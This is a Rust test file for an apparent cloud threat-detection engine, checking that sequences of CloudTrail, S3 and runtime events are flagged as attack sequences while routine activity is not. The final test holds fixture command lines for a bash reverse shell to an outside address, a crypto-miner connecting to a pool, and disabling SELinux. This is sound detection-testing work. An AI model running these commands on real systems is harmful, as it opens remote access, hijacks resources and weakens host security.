//! Several signals that are one attack.

use ringwall_threat::finding::Finding;
use ringwall_threat::sources::Form;
use serde_json::json;

use crate::found;
use crate::stream::{call, engine, lists, read};

#[test]
fn the_same_actor_weeks_later_is_another_sequence() {
    let attack = |days: i64| {
        let step = |(n, (service, name)): (i64, (&str, &str))| {
            let service = format!("{service}.amazonaws.com");
            let extra = json!({"readOnly": name.starts_with("List")});
            let at = days * 86_400 + n * 60;
            call(&service, name, "203.0.113.1", at, &extra)
        };
        let steps = [
            ("iam", "ListUsers"),
            ("iam", "CreateAccessKey"),
            ("iam", "AttachUserPolicy"),
            ("cloudtrail", "StopLogging"),
        ];
        let lines: Vec<_> = (0..).zip(steps).map(step).collect();
        lines.join("\n")
    };
    let count = |days: &[i64]| {
        let days: Vec<_> = days.iter().map(|days| attack(*days)).collect();
        let mut engine = engine(lists());
        read(&mut engine, Form::CloudTrail, &days.join("\n"));
        let findings = engine.findings();
        let kind = "AttackSequence:IAM/CompromisedCredentials";
        findings.iter().filter(|one| one.kind == kind).count()
    };
    assert_eq!(count(&[0]), 1);
    assert_eq!(count(&[0, 1]), 1);
    assert_eq!(count(&[0, 1, 30]), 2);
}

#[test]
fn an_attack_on_credentials_is_a_sequence() {
    let steps = |address: &str| {
        [
            ("iam", "ListUsers", true),
            ("iam", "CreateAccessKey", false),
            ("iam", "AttachUserPolicy", false),
            ("cloudtrail", "StopLogging", false),
        ]
        .iter()
        .enumerate()
        .map(|(n, (service, name, read_only))| {
            let service = format!("{service}.amazonaws.com");
            let extra = json!({"readOnly": read_only});
            call(
                &service,
                name,
                address,
                i64::try_from(n).unwrap() * 60,
                &extra,
            )
        })
        .collect::<Vec<_>>()
        .join("\n")
    };
    let mut engine = engine(lists());
    read(&mut engine, Form::CloudTrail, &steps("203.0.113.1"));
    let findings = engine.findings();
    let kind = "AttackSequence:IAM/CompromisedCredentials";
    let sequence: Vec<&&Finding> = findings.iter().filter(|f| f.kind == kind).collect();
    assert_eq!(sequence.len(), 1);
    let details = sequence[0].service.detection.as_ref().unwrap();
    assert!(details.sequence.as_ref().unwrap().signals.len() >= 3);
    let indicators = &details.sequence.as_ref().unwrap().sequence_indicators;
    let values = |key: &str| {
        let found = indicators.iter().find(|indicator| indicator.key == key);
        found.map(|found| found.values.clone()).unwrap_or_default()
    };
    assert!(values("ATTACK_TACTIC").contains(&"Privilege Escalation".to_owned()));
    assert!(values("HIGH_RISK_API").contains(&"iam:AttachUserPolicy".to_owned()));
    assert_eq!(sequence[0].service.feature_name, "Correlation");
    let part = findings
        .iter()
        .find(|f| f.kind == "Recon:IAMUser/MaliciousIPCaller")
        .unwrap();
    assert_eq!(
        part.associated_attack_sequence_arn.as_ref(),
        Some(&sequence[0].arn)
    );
    assert!(!found(Form::CloudTrail, &steps("198.51.100.1")).contains(kind));
}

#[test]
fn what_somebody_does_every_day_is_no_sign() {
    let everyday = ["CreateAccessKey", "AttachUserPolicy", "GetSecretValue"];
    let day = |n: i64, agent: &str| {
        let service = |name: &str| {
            if name == "GetSecretValue" {
                "secretsmanager"
            } else {
                "iam"
            }
        };
        let extra = json!({"userAgent": agent});
        let calls = everyday.iter().zip(0..).map(|(name, step)| {
            let service = format!("{}.amazonaws.com", service(name));
            call(&service, name, "198.51.100.1", n * 600 + step, &extra)
        });
        calls.collect::<Vec<_>>().join("\n")
    };
    let usual: Vec<String> = (0..200).map(|n| day(n, "aws-cli/2.31.0")).collect();
    // Some time later, from a distribution that is for attackers: a finding, and all that is usual.
    let kali = day(400, "aws-cli/2.31.0 kali");
    let kind = "AttackSequence:IAM/CompromisedCredentials";
    assert!(
        !found(
            Form::CloudTrail,
            &[usual.join("\n"), kali.clone()].join("\n")
        )
        .contains(kind)
    );
    assert!(found(Form::CloudTrail, &kali).contains(kind));
}

#[test]
fn other_attacks_are_sequences_too() {
    let object = |name: &str, n: i64| {
        let extra = json!({"eventCategory": "Data", "requestParameters": {"bucketName": "b"}});
        call("s3.amazonaws.com", name, "203.0.113.1", n, &extra)
    };
    let text = [
        object("ListObjects", 0),
        object("GetObject", 1),
        object("DeleteObject", 2),
    ]
    .join("\n");
    assert!(found(Form::CloudTrail, &text).contains("AttackSequence:S3/CompromisedData"));
    for (member, kind) in [
        ("eksCluster", "AttackSequence:EKS/CompromisedCluster"),
        ("ecsCluster", "AttackSequence:ECS/CompromisedCluster"),
        ("instanceId", "AttackSequence:EC2/CompromisedInstanceGroup"),
    ] {
        let deed = |process: &str, command: &str, second: i64| {
            json!({"eventType": "runtimeEvent", "kind": "exec", "time": crate::stream::time(second), (member): "x",
                   "process": {"name": process, "path": "/tmp/x", "commandLine": command}})
            .to_string()
        };
        let attack = [
            deed("bash", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", 0),
            deed("xmrig", "xmrig -o stratum+tcp://pool.example:1", 60),
            deed("sh", "sh -c setenforce 0", 120),
        ];
        assert!(found(Form::Runtime, &attack.join("\n")).contains(kind));
        assert!(!found(Form::Runtime, &attack[..1].join("\n")).contains(kind));
    }
}
